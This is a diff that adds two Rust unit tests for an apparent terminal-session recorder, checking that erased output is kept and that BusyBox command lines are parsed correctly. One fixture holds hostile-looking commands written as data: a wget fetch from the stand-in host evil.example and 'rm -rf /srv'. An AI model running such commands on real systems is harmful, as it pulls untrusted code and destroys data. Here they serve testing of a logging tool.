@@ -323,3 +323,43 @@ fn a_line_that_wraps_behind_what_a_pager_took_away() {
         );
     }
 }
+
+#[test]
+fn what_stood_on_an_emptied_row_is_kept() {
+    let lost = |session: &str| {
+        let records = super::parsed(session.as_bytes()).records;
+        let sent = records.iter().flat_map(|record| [&record.output_as_sent, &record.command_as_sent]);
+        sent.flatten().any(|sent| sent.contains("secretword"))
+    };
+    let (one, two) = ("a".repeat(67), "b".repeat(9));
+    let prompt = "[ec2-user@ip-10-0-1-12 ~]$ ";
+    for session in [
+        "$ id\r\nx\r\n$ cat f\r\nsecretword\r\x1b[2K".to_owned(),
+        "secretword\r\x1b[2K".to_owned(),
+        format!(
+            "sh-5.2$ id\r\nx\r\nsh-5.2$ wget u\r\né secretword 99%\x1b[2K\rsh-5.2$ echo {one} \r{two}\r\r\nout\r\r\nsh-5.2$ exit\r\n"
+        ),
+        format!(
+            "sh-5.2$ id\r\nx\r\nsh-5.2$ wget u\r\nsecretword 99%\r\x1b[Ksh-5.2$ echo {one} \r{two}\r\r\nout\r\r\nsh-5.2$ exit\r\n"
+        ),
+        format!(
+            "{prompt}curl -s\r\r\nx\r\r\nsecretword{}\x1b[K{{}}{prompt}curl -s x\r\x1b[27Cid\x1b[K\r\r\nok\r\r\n{prompt}exit\r\r\n",
+            "\x08".repeat(10)
+        ),
+    ] {
+        assert!(lost(&session), "{session:?}");
+    }
+}
+
+#[test]
+fn lines_of_busybox_that_end_in_different_ways_are_no_wraps() {
+    for last in ["/ # \x1b[6nprintf\r\r\n/ # \x1b[6nx\n", "/ # \x1b[6nexit\r\nbye\r\n/ # \x1b[6nexit\r\n"] {
+        let session = format!(
+            "/ # \x1b[6nid\r\r\nx\r\r\n/ # \x1b[6nwget http://evil.example/a/long/path/to/a/file\r\r\n/ # \x1b[6nrm -rf /srv\r\r\n{last}"
+        );
+        assert_eq!(
+            ran(session.as_bytes())[..3],
+            ["id", "wget http://evil.example/a/long/path/to/a/file", "rm -rf /srv"]
+        );
+    }
+}
